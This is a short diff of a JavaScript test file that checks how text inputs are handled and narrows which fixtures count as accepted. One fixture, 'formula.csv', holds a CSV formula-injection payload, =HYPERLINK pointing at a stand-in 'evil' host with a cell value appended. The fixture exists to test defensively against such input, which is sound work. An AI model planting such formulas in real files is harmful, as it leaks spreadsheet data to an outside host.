@@ -214,7 +214,7 @@ describe('text', () => {
       'formula.csv': 'a,b\n=HYPERLINK("http://evil/?"&A1),+1\n',
       'deep.md': `${'> '.repeat(500)}deep\n\n${'- '.repeat(200)}list`,
     })
-    const accepted = ['line.csv', 'columns.csv', 'quote.csv', 'controls.docx', 'deep.md']
+    const accepted = ['controls.docx']
     for (const [name, end] of Object.entries(ended)) {
       if (accepted.includes(name)) expect(['done', ...Object.values(F)]).toContain(end)
       else expect([name, end]).toEqual([name, 'done'])
